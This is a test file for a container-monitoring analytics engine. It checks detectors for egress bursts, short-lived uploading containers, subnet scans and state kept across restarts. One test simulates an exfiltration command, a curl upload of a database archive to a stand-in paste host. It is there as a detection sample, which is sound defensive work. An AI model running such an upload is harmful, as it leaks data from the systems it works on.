// The scenarios analytics must get right, on the shipped definitions and events shaped as the
// Docker and audit sources produce them.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import Database from 'better-sqlite3';
import type { Finding } from '../model/alert.js';
import type { StowawayEvent } from '../model/event.js';
import { createAnalytics, loadAnalyticDefs, type AnalyticDetector } from './index.js';
import { connectEvent, execEvent, jitter, lifecycleEvent, statsEvent, type ContainerRef } from './scenario.js';

const CONTENT = fileURLToPath(new URL('../../content/analytics/', import.meta.url));
const { defs, diagnostics } = loadAnalyticDefs([CONTENT]);
const def = (file: string) => {
  const d = defs.find((x) => x.file?.endsWith(file));
  assert.ok(d, `shipped analytic ${file} loads`);
  return d;
};

const T0 = Date.parse('2026-11-02T00:00:00Z');
const MIN = 60_000;
const MB = 1_000_000;

/** Feeds events in order, then moves the watermark past the end; returns every finding. */
function run(dets: AnalyticDetector[], events: StowawayEvent[], final?: number): Finding[] {
  const out: Finding[] = [];
  for (const ev of events) for (const d of dets) out.push(...d.process(ev));
  if (final !== undefined) for (const d of dets) out.push(...d.advance!(new Date(final).toISOString()));
  return out;
}

const api1: ContainerRef = { id: 'a'.repeat(64), name: 'api-1', image: 'acme/api' };
const api2: ContainerRef = { id: 'b'.repeat(64), name: 'api-2', image: 'acme/api' };

/**
 * Two containers of one image sending ~1 MB per 30 s stats sample each (about 20 MB per image per
 * five minutes), with `rate(minute)` multiplying the volume of each minute.
 */
function trafficProfile(minutes: number, rate: (minute: number) => number): StowawayEvent[] {
  const evs: StowawayEvent[] = [];
  const totals = [0, 0];
  for (let s = 0; s < minutes * 2; s++) {
    const t = T0 + s * 30_000;
    [api1, api2].forEach((c, i) => {
      totals[i]! += Math.round((1 + 0.1 * jitter(s * 2 + i)) * MB * rate(Math.floor(s / 2)));
      evs.push(statsEvent(c, t + i * 1000, { txTotal: totals[i]! }));
    });
  }
  return evs;
}

test('shipped analytic definitions load without diagnostics', () => {
  assert.deepEqual(diagnostics, []);
  assert.ok(defs.length >= 6, `${defs.length} shipped analytics`);
});

test('steady traffic then a 20x burst for five minutes: exactly one alert naming the baseline', () => {
  const burstAt = 6 * 60; // after six hours of normal traffic
  const evs = trafficProfile(7 * 60, (m) => (m >= burstAt && m < burstAt + 5 ? 20 : 1));
  const { detectors } = createAnalytics([def('egress-spike-per-image.yml')]);
  const found = run(detectors, evs, T0 + 8 * 60 * MIN);
  assert.equal(found.length, 1, JSON.stringify(found.map((f) => f.details?.reason)));
  const f = found[0]!;
  const d = f.details as Record<string, any>;
  assert.equal(f.rule.kind, 'analytic');
  assert.deepEqual(f.group, { 'container.image.name': 'acme/api' });
  assert.equal(d.window.start, new Date(T0 + burstAt * MIN).toISOString());
  assert.equal(d.window.interval, '5m');
  assert.equal(d.baseline.method, 'median/MAD');
  assert.equal(d.baseline.samples, 72);
  // The baseline is about 20 MB per five minutes; the burst about twenty times that.
  assert.ok(d.baseline.median > 18 * MB && d.baseline.median < 22 * MB, `median ${d.baseline.median}`);
  assert.ok(d.observed > 15 * d.baseline.median, `observed ${d.observed}`);
  assert.ok(d.observed >= d.threshold.value);
  assert.match(d.reason, /baseline median/);
  assert.equal(f.events[0]?.stowaway.logsource.category, 'container_stats');
});

test('the same burst during warm-up raises nothing', () => {
  const evs = trafficProfile(3 * 60, (m) => (m >= 60 && m < 65 ? 20 : 1)); // burst in interval 12 of a 24-interval warm-up
  const { detectors } = createAnalytics([def('egress-spike-per-image.yml')]);
  const found = run(detectors, evs, T0 + 4 * 60 * MIN);
  assert.deepEqual(found, []);
  assert.equal(detectors[0]!.stats!().suppressed_warmup, 1);
});

test('a gentle ramp to the same 20x raises nothing', () => {
  const evs = trafficProfile(9 * 60, (m) => (m < 2 * 60 ? 1 : 1 + (19 * Math.min(m - 120, 420)) / 420));
  const { detectors } = createAnalytics([def('egress-spike-per-image.yml')]);
  assert.deepEqual(run(detectors, evs, T0 + 10 * 60 * MIN), []);
});

/** One container that sends `total` bytes out between create and destroy, sampled every `step`. */
function containerUpload(c: ContainerRef, start: number, lifetime: number, total: number, step: number, autoRemove: boolean): StowawayEvent[] {
  const evs = [lifecycleEvent(c, start, 'create', { autoRemove }), lifecycleEvent(c, start + 500, 'start', { autoRemove })];
  const samples = Math.floor(lifetime / step);
  for (let i = 1; i <= samples; i++) evs.push(statsEvent(c, start + i * step, { txTotal: Math.round((total * i) / samples) }));
  evs.push(lifecycleEvent(c, start + lifetime + 100, 'die', { autoRemove }), lifecycleEvent(c, start + lifetime + 200, 'destroy', { autoRemove }));
  return evs;
}

test('a short-lived --rm container uploading 50 MB raises an alert', () => {
  const c: ContainerRef = { id: 'c'.repeat(64), name: 'quirky_hopper', image: 'busybox' };
  const { detectors } = createAnalytics([def('short-lived-container-egress.yml')]);
  const found = run(detectors, containerUpload(c, T0, 90_000, 50 * MB, 1000, true), T0 + 10 * MIN);
  assert.equal(found.length, 1);
  const d = found[0]!.details as Record<string, any>;
  assert.equal(d.egress_bytes, 50 * MB);
  assert.deepEqual(d.trigger, ['egress']);
  assert.equal(d.auto_remove, true);
  assert.ok(d.lifetime_s > 90 && d.lifetime_s < 91);
  assert.deepEqual(found[0]!.group, { 'container.id': c.id });
  assert.ok(found[0]!.events.some((e) => e.event.action === 'container-die'));
});

test('a long-lived container sending the same 50 MB spread over a day raises nothing', () => {
  const c: ContainerRef = { id: 'd'.repeat(64), name: 'steady', image: 'busybox' };
  const { detectors } = createAnalytics([def('short-lived-container-egress.yml')]);
  const found = run(detectors, containerUpload(c, T0, 24 * 60 * MIN, 50 * MB, 5 * MIN, true), T0 + 25 * 60 * MIN);
  assert.deepEqual(found, []);
  assert.equal(detectors[0]!.stats!().containers_decided, 1);
});

test('a short-lived container running curl alone raises nothing as shipped; with trigger.tools on it names the tool', () => {
  const c: ContainerRef = { id: 'e'.repeat(64), name: 'probe', image: 'alpine' };
  const evs = [
    lifecycleEvent(c, T0, 'create'),
    execEvent(c, T0 + 2000, '/usr/bin/curl', ['-T', '/data/db.tar', 'https://paste.example']),
    lifecycleEvent(c, T0 + 9000, 'die'),
  ];
  // Every CI job runs curl in a short-lived container: the shipped definition alerts on volume only.
  const shipped = def('short-lived-container-egress.yml');
  assert.deepEqual(run(createAnalytics([shipped]).detectors, evs, T0 + 10 * MIN), []);
  const withTools = { ...shipped, trigger: { ...(shipped as { trigger: object }).trigger, tools: true } } as typeof shipped;
  const { detectors } = createAnalytics([withTools]);
  const found = run(detectors, evs, T0 + 10 * MIN);
  assert.equal(found.length, 1);
  assert.deepEqual((found[0]!.details as any).tools, ['curl']);
  assert.deepEqual((found[0]!.details as any).trigger, ['tools']);
});

test('restart in the middle of learning: state survives in SQLite and the next alert is identical', () => {
  const burstAt = 4 * 60;
  const evs = trafficProfile(5 * 60, (m) => (m >= burstAt && m < burstAt + 5 ? 20 : 1));
  // Mixed in: a first-seen destination and a short-lived upload, both straddling the restart.
  const web: ContainerRef = { id: 'f'.repeat(64), name: 'web', image: 'acme/web' };
  for (let h = 0; h < 5; h++) evs.push(connectEvent(web, T0 + h * 60 * MIN + 7000, '10.0.0.5', 5432));
  evs.push(connectEvent(web, T0 + 4.5 * 60 * MIN, '203.0.113.9', 443));
  const tmp: ContainerRef = { id: '9'.repeat(64), name: 'tmp', image: 'busybox' };
  evs.push(...containerUpload(tmp, T0 + 60 * MIN - 30_000, 60_000, 30 * MB, 1000, true));
  evs.sort((a, b) => Date.parse(a['@timestamp']) - Date.parse(b['@timestamp']));
  const picked = [def('egress-spike-per-image.yml'), def('first-seen-destination-per-image.yml'), def('short-lived-container-egress.yml')].map((d) =>
    d.type === 'first_seen' ? { ...d, learningPeriodMs: 2 * 60 * MIN } : d,
  );
  const end = T0 + 6 * 60 * MIN;

  const uninterrupted = run(createAnalytics(picked).detectors, evs, end);
  assert.equal(uninterrupted.length, 3, JSON.stringify(uninterrupted.map((f) => f.details?.reason)));

  const dir = mkdtempSync(join(tmpdir(), 'stowaway-analytics-'));
  try {
    const file = join(dir, 'stowaway.sqlite');
    // Split inside the warm-up (interval 12 of 24), in the middle of an interval and of the upload.
    const cut = evs.findIndex((e) => Date.parse(e['@timestamp']) >= T0 + 60 * MIN + 2.5 * MIN - 30_000);
    let db = new Database(file);
    const first = createAnalytics(picked, { store: db });
    const before = run(first.detectors, evs.slice(0, cut));
    for (const d of first.detectors) d.checkpoint();
    db.close();

    db = new Database(file);
    const second = createAnalytics(picked, { store: db });
    assert.deepEqual(second.diagnostics, []);
    const baseline = second.detectors[0]!.view();
    const api = baseline.entities.find((e) => (e.entity as Record<string, string>)['container.image.name'] === 'acme/api');
    assert.ok(api && (api.samples as number) >= 10, 'baseline history survived the restart');
    const after = run(second.detectors, evs.slice(cut), end);
    db.close();
    assert.deepEqual([...before, ...after], uninterrupted);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('property: a restart at any point of any stream gives the same findings as no restart', async () => {
  const fc = await import('fast-check');
  const picked = [
    def('egress-spike-per-image.yml'),
    def('first-seen-executable-per-image.yml'),
    def('short-lived-container-egress.yml'),
    def('container-churn-egress.yml'),
    def('cpu-spike-per-image.yml'),
  ].map((d) =>
    d.type === 'baseline'
      ? { ...d, baseline: { ...d.baseline, warmup: 3, window: 12 } }
      : d.type === 'first_seen'
        ? { ...d, learningPeriodMs: 20 * MIN }
        : d.type === 'lifecycle' && d.mode === 'churn'
          ? { ...d, churn: { ...d.churn, minEvents: 4 }, egressBaseline: { ...d.egressBaseline, warmup: 3, window: 12 } }
          : d,
  );
  const images = ['acme/api', 'acme/web', 'busybox'];
  const action = fc.record({
    kind: fc.constantFrom('stats', 'exec', 'create', 'die'),
    c: fc.integer({ min: 0, max: 5 }),
    dt: fc.integer({ min: 0, max: 4 * MIN }),
    bytes: fc.constantFrom(100_000, 1_000_000, 5_000_000, 80_000_000),
    exe: fc.constantFrom('/bin/sh', '/usr/bin/curl', '/usr/bin/node', '/tmp/x'),
  });
  let withFindings = 0;
  fc.assert(
    fc.property(fc.array(action, { minLength: 20, maxLength: 250 }), fc.nat(), (actions, cutSeed) => {
      const totals = new Map<number, number>();
      let t = T0;
      const evs: StowawayEvent[] = [];
      for (const a of actions) {
        t += a.dt;
        const c: ContainerRef = { id: String(a.c).repeat(64), name: `c${a.c}`, image: images[a.c % 3]! };
        if (a.kind === 'stats') {
          totals.set(a.c, (totals.get(a.c) ?? 0) + a.bytes);
          evs.push(statsEvent(c, t, { txTotal: totals.get(a.c)!, cpu: a.bytes / 1e8 }));
        } else if (a.kind === 'exec') evs.push(execEvent(c, t, a.exe));
        else {
          if (a.kind === 'die') totals.delete(a.c);
          evs.push(lifecycleEvent(c, t, a.kind, { autoRemove: a.c % 2 === 0 }));
        }
      }
      const end = t + 60 * MIN;
      const plain = run(createAnalytics(picked).detectors, evs, end);
      if (plain.length > 0) withFindings++;
      const cut = cutSeed % (evs.length + 1);
      const db = new Database(':memory:');
      try {
        const first = createAnalytics(picked, { store: db });
        const before = run(first.detectors, evs.slice(0, cut));
        for (const d of first.detectors) d.checkpoint();
        const second = createAnalytics(picked, { store: db });
        const after = run(second.detectors, evs.slice(cut), end);
        assert.deepEqual([...before, ...after], plain);
      } finally {
        db.close();
      }
    }),
    { numRuns: 60, seed: 20261122 },
  );
  assert.ok(withFindings >= 20, `streams with findings: ${withFindings} of 60 (the property must not hold vacuously)`);
});

test('a workload that starts scanning its subnet: one alert on distinct destinations', () => {
  const web: ContainerRef = { id: '7'.repeat(64), name: 'web', image: 'acme/web' };
  const evs: StowawayEvent[] = [];
  for (let m = 0; m < 3 * 60; m++) evs.push(connectEvent(web, T0 + m * MIN, `10.0.0.${1 + (m % 3)}`, 5432));
  for (let k = 1; k < 255; k++) evs.push(connectEvent(web, T0 + 3 * 60 * MIN + k * 100, `10.0.1.${k}`, 22));
  for (let m = 0; m < 30; m++) evs.push(connectEvent(web, T0 + 3 * 60 * MIN + 2 * MIN + m * MIN, `10.0.0.${1 + (m % 3)}`, 5432));
  const { detectors } = createAnalytics([def('distinct-destinations-per-image.yml')]);
  const found = run(detectors, evs, T0 + 4 * 60 * MIN);
  assert.equal(found.length, 1);
  const d = found[0]!.details as Record<string, any>;
  assert.equal(d.signal, 'distinct(destination.ip)');
  assert.equal(d.baseline.median, 3);
  assert.ok(d.observed >= 254);
});
